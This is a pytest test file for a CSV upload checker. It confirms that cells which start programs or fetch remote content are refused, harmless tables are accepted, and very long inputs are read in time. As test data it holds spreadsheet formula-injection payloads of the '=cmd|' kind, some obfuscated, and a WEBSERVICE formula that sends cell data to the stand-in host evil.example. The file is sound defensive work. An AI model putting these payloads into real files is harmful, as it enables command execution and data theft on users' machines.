"""Tables of values: cells that a spreadsheet program would run, and tables that would keep a check busy for days."""

import io
import time

import pytest

from app.core.files import RefusedFileError, sniff

HOSTILE = {
    "first": b"=cmd|'/c calc'!A1\n",
    "after a mark": b"\xef\xbb\xbf=cmd|'/c calc'!A1\n",
    "quoted": b"a,\"=cmd|'/c calc'!A1\"\n",
    "with a plus": b"a;b\n1; +cmd|' /c calc'!A1\n",
    "after an empty line": b"a\n\n  @SUM|x!A1",
    "far behind": b"a,b\n" * 300_000 + b"=cmd|'/c calc'!A1\n",
    "in a sum": b"a;=2+5+cmd|'/c calc'!A1\n",
    "in a product": b"@SUM(1+1)*cmd|' /c calc'!A1\n",
    "a program in quotes": b"='cmd'|'/c calc'!A1\n",
    "over a boundary": b"a\n" * 499_999 + b"=cmd|'/c calc'!A1\n",
}
FETCHING = {
    "web service": b'a,"=WEBSERVICE(""https://evil.example/""&A1)"\n',
    "picture": b"a;=IMAGE(A1)\n",
    "another book": b"='\\\\evil.example\\share\\[x.xlsx]a'!A1\n",
}
HARMLESS = {
    "sums": b"a;b\n=A1+B1;=SUM(A1:A9)\n",
    "bars": b"a|b\n-5|x!\n1|+33 6|well!\n",
    "words": b"a,b\n-1,an image (large)\nx=cmd|y!,2\n",
    "no mark": b"=cmd|x\nwell!\n",
}
LONG = {
    "lines": b"a,b\n" + b"\n" * 3_000_000,
    "tabs": b"a,b\n" + b"\t" * 3_000_000,
    "blanks": b"a,b\n=" + b" " * 3_000_000,
    "calls": b"a,b\n" + b"=a|" * 1_000_000 + b"\n!",
    "words": b"a,b\n=" + b"a" * 3_000_000,
    "bars and quotes": b"a,b\n=" + b"a|'" * 1_000_000,
    "equal signs": b"a,b\n" + b"=" * 3_000_000,
    "quotes": b"a,b\n" + b'="' * 1_500_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_starts_a_program_is_refused(app, name: str) -> None:
    with pytest.raises(RefusedFileError, match="starts other programs"):
        sniff(io.BytesIO(HOSTILE[name]), "a.csv")


@pytest.mark.parametrize("name", FETCHING)
def test_a_cell_that_fetches_something_is_refused(app, name: str) -> None:
    with pytest.raises(RefusedFileError, match="fetches something from elsewhere"):
        sniff(io.BytesIO(FETCHING[name]), "a.csv")


@pytest.mark.parametrize("name", HARMLESS)
def test_what_people_reckon_with_is_taken(app, name: str) -> None:
    assert sniff(io.BytesIO(HARMLESS[name]), "a.csv").ending == "csv"


@pytest.mark.parametrize("name", LONG)
def test_a_long_table_is_read_in_time(app, name: str) -> None:
    began = time.process_time()
    assert sniff(io.BytesIO(LONG[name]), "a.csv").ending == "csv"
    assert time.process_time() - began < 5
